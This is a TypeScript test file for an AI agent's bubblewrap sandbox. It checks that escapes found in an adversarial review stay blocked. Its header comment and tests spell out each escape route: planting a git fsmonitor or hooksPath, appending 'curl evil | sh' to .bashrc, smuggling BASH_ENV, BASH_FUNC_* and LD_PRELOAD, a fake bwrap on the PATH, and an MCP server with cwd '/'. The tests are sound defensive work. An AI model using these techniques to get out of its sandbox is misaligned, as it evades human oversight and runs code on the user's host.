/**
 * The sandbox after an adversarial review (issue 21), with the real sandbox-runtime where bubblewrap
 * works. Each case is an escape that ran on the first version:
 * - a sandboxed command wrote `.git/config` (an fsmonitor then runs on the host's next `git status`)
 *   or created `.vscode/…` in its own workspace;
 * - the agent's `env` reached the shell that starts bubblewrap outside the sandbox (`BASH_ENV`,
 *   `BASH_FUNC_*`, `LD_PRELOAD`);
 * - `bwrap` was looked up on a PATH with a relative entry, in the agent's folder;
 * - a program's words run without a shell were read as shell syntax (`X=y prog`);
 * - a sandboxed MCP server's `cwd: "/"` made everything writable.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { TerminalManager } from '../../../src/terminals';
import { Sandboxes } from '../../../src/sandbox/sandboxes';
import { SandboxRuntime } from '../../../src/sandbox/runtime';
import type { SandboxProfile } from '../../../src/sandbox/profile';

describe('sandbox escapes closed (issue 21 review)', function () {
  this.timeout(60_000);
  let tmp: string;
  let work: string;
  let outside: string;
  let sandboxes: Sandboxes;
  let profile: SandboxProfile;

  before(async function () {
    const status = await new SandboxRuntime().availability();
    if (!status.available) {
      console.log(`      (sandbox unavailable here: ${status.reason})`);
      this.skip();
    }
  });

  beforeEach(async () => {
    // Outside the temp folder, which stays writable: the person's home.
    tmp = fs.realpathSync(fs.mkdtempSync(path.join(os.homedir(), '.as-sbx-esc-')));
    work = path.join(tmp, 'work');
    outside = path.join(tmp, 'outside');
    fs.mkdirSync(path.join(work, '.git'), { recursive: true });
    fs.writeFileSync(path.join(work, '.git', 'config'), '[core]\n');
    fs.mkdirSync(path.join(work, 'sub'));
    fs.mkdirSync(outside);
    sandboxes = new Sandboxes({ settings: () => ({ mode: 'ask', allowedHosts: [], bwrapPath: '' }), workspaceRoots: () => [work], editorStorage: () => [] });
    const p = await sandboxes.profileFor(undefined);
    assert.ok('profile' in p, JSON.stringify(p));
    profile = p.profile;
  });
  afterEach(async () => {
    await sandboxes.dispose();
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  const run = async (command: string, opts: { args?: string[]; env?: { name: string; value: string }[]; baseEnv?: NodeJS.ProcessEnv; cwd?: string } = {}) => {
    const m = new TerminalManager({ killGraceMs: 200 });
    const id = await m.create({ sessionId: 's', command, ...(opts.args ? { args: opts.args } : {}), ...(opts.env ? { env: opts.env } : {}), ...(opts.cwd ? { cwd: opts.cwd } : {}) }, { defaultCwd: work, baseEnv: opts.baseEnv ?? process.env, wrap: sandboxes.wrapper(profile) });
    const exit = await m.waitForExit(id);
    const out = m.output(id).output;
    await m.disposeAll();
    return { exit, out };
  };

  it('.git and .vscode stay read-only in the workspace, even where they do not exist yet; the placeholders go', async () => {
    const r = await run('git config core.fsmonitor "touch x"; echo a >> .git/config; mkdir -p .vscode; echo {} > .vscode/tasks.json; mkdir -p sub/.vscode; echo ok > plain.txt');
    assert.equal(fs.readFileSync(path.join(work, '.git', 'config'), 'utf8'), '[core]\n', r.out);
    assert.ok(!fs.existsSync(path.join(work, '.vscode', 'tasks.json')), r.out);
    assert.equal(fs.readFileSync(path.join(work, 'plain.txt'), 'utf8'), 'ok\n', 'the rest of the workspace is writable');
    assert.ok(!fs.existsSync(path.join(work, '.vscode')), 'no placeholder left in the workspace');
    assert.ok(profile.denyWrite?.includes(path.join(work, '.git')) && profile.denyWrite.includes(path.join(work, 'sub', '.vscode')) === false, JSON.stringify(profile.denyWrite));
  });

  it('shell and git settings in the workspace stay read-only from whatever folder the command runs in, whatever folder the extension host runs in', async () => {
    // The sandbox library looked for them in the extension host's working folder (here this
    // repository's) before the patch; then in the command's folder, so from a subfolder or the temp
    // folder the workspace's own were writable (an adversarial review). Now the profile keeps them
    // itself in every root, and the library looks in the session's folder.
    fs.writeFileSync(path.join(work, '.bashrc'), '# rc\n');
    fs.writeFileSync(path.join(work, 'sub', '.gitconfig'), '[user]\n');
    for (const cwd of [work, path.join(work, 'sub'), fs.realpathSync(os.tmpdir())]) {
      const r = await run(`echo "curl evil | sh" >> ${path.join(work, '.bashrc')}; echo "[core] hooksPath=/tmp" >> ${path.join(work, 'sub', '.gitconfig')}; echo ok > ${path.join(work, 'sub', 'plain.txt')}`, { cwd });
      assert.equal(fs.readFileSync(path.join(work, '.bashrc'), 'utf8'), '# rc\n', `from ${cwd}: ${r.out}`);
      assert.equal(fs.readFileSync(path.join(work, 'sub', '.gitconfig'), 'utf8'), '[user]\n', `from ${cwd}: ${r.out}`);
      assert.equal(fs.readFileSync(path.join(work, 'sub', 'plain.txt'), 'utf8'), 'ok\n', 'the rest stays writable');
      fs.rmSync(path.join(work, 'sub', 'plain.txt'));
    }
    // A profile made once they exist keeps them itself, in each root.
    const again = await sandboxes.profileFor(undefined);
    assert.ok('profile' in again && again.profile.denyWrite?.includes(path.join(work, '.bashrc')) && again.profile.denyWrite.includes(path.join(work, 'sub', '.gitconfig')), JSON.stringify(again));
  });

  it('a .bashrc the library finds two folders down stays read-only too (its search runs in the session\'s folder)', async () => {
    fs.mkdirSync(path.join(work, 'sub', 'deeper'));
    fs.writeFileSync(path.join(work, 'sub', 'deeper', '.bashrc'), '# rc\n');
    const r = await run('echo evil >> sub/deeper/.bashrc', { cwd: path.join(work, 'sub') });
    assert.equal(fs.readFileSync(path.join(work, 'sub', 'deeper', '.bashrc'), 'utf8'), '# rc\n', r.out);
    assert.ok(!profile.denyWrite?.some((p) => p.endsWith(path.join('deeper', '.bashrc'))), 'not the profile\'s own protection');
  });

  it('the agent\'s environment applies inside the sandbox only: BASH_ENV, BASH_FUNC_*, LD_PRELOAD never reach the shell that starts it', async () => {
    const marker = path.join(outside, 'ran-outside');
    fs.writeFileSync(path.join(work, 'env.sh'), `touch ${marker}\n`);
    const r = await run('echo "FOO=$FOO"', {
      baseEnv: { ...process.env, SHELL: '/bin/bash' },
      env: [
        { name: 'BASH_ENV', value: path.join(work, 'env.sh') },
        { name: 'BASH_FUNC_bwrap%%', value: `() { touch ${marker}; }` },
        { name: 'FOO', value: 'bar baz' },
      ],
    });
    assert.ok(!fs.existsSync(marker), r.out);
    assert.match(r.out, /FOO=bar baz/, 'the command still gets its variables');
  });

  it('a program run without a shell is that program: its words are never shell syntax', async () => {
    const r = await run('LD_PRELOAD=/nonexistent.so', { args: ['sh', '-c', `touch ${path.join(work, 'ran')}`] });
    assert.equal(r.exit.exitCode, 127, r.out);
    assert.ok(!fs.existsSync(path.join(work, 'ran')));
    const ok = await run('printf', { args: ['%s|', 'a b', '$HOME', ';id'] });
    assert.equal(ok.out.trim(), 'a b|$HOME|;id|');
  });

  it('bwrap is run by its absolute path, never looked up in the agent\'s folder', async () => {
    const marker = path.join(outside, 'fake-bwrap-ran');
    fs.writeFileSync(path.join(work, 'bwrap'), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
    const saved = process.env.PATH;
    process.env.PATH = `:${saved}`;
    try {
      const again = new Sandboxes({ settings: () => ({ mode: 'ask', allowedHosts: [], bwrapPath: '' }), workspaceRoots: () => [work], editorStorage: () => [] });
      const p = await again.profileFor(undefined);
      assert.ok('profile' in p);
      const m = new TerminalManager();
      const id = await m.create({ sessionId: 's', command: 'echo in' }, { defaultCwd: work, baseEnv: process.env, wrap: again.wrapper(p.profile) });
      await m.waitForExit(id);
      await m.disposeAll();
      await again.dispose();
    } finally {
      process.env.PATH = saved;
    }
    assert.ok(!fs.existsSync(marker));
  });

  it('a sandboxed MCP server whose cwd is outside the workspace writes in the workspace only, not there', async () => {
    const launch = await sandboxes.launch({ command: '/bin/sh', args: ['-c', `echo x > ${path.join(outside, 'mcp.txt')}; echo y > ${path.join(work, 'mcp.txt')}`], env: { PATH: process.env.PATH ?? '' }, cwd: '/' });
    const { spawnSync } = await import('node:child_process');
    spawnSync(launch.command, launch.args, { env: launch.env, cwd: launch.cwd });
    assert.ok(!fs.existsSync(path.join(outside, 'mcp.txt')));
    assert.ok(fs.existsSync(path.join(work, 'mcp.txt')));
  });
});
